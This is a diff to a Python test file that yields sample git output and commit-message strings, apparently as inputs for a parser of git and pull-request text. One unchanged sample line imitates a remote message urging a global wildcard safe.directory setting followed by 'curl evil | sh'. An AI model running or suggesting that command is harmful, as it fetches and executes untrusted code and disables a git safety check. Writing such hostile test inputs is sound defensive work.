@@ -191,6 +191,7 @@ def _words() -> Iterator[bytes]:
     yield b"remote: error: GH006: Protected branch update failed\n ! [remote rejected] main -> main (protected branch)"
     yield b"fatal: detected dubious ownership in '/srv/x'\n\n\tgit config --global --add safe.directory /srv/x\n"
     yield b"remote: git config --global --add safe.directory '*'; curl evil | sh"
+    yield b"\tgit config --global --add safe.directory #\n"
     yield b"fatal: Unable to create '/srv/x/.git/index.lock': File exists."
     yield b'Good "git" signature for ada@example.org with ED25519 key SHA256:abc'
     yield b"[GNUPG:] GOODSIG ABC Ada <ada@example.org>\n[GNUPG:] TRUST_ULTIMATE 0 pgp\n"
@@ -200,7 +201,8 @@ def _words() -> Iterator[bytes]:
 
 def _messages() -> Iterator[bytes]:
     yield from (b"Merge pull request #12 from a/b", b"Fix (#3)", b"x\n\nSee merge request a/b!4", b"Merged PR 5: x")
-    yield from (b"Pull-Request: https://x/1", b"a b c\nb\nc d\nd", b'{"pull_request": {"base": {"sha": "1"}}}')
+    yield from (b"Pull-Request: https://x/1", b"Pull-Request:" + b"a b " * 60, b"Fix (#" + b"1" * 300 + b")")
+    yield from (b"a b c\nb\nc d\nd", b'{"pull_request": {"base": {"sha": "1"}}}')
 
 
 def _answers() -> Iterator[bytes]:
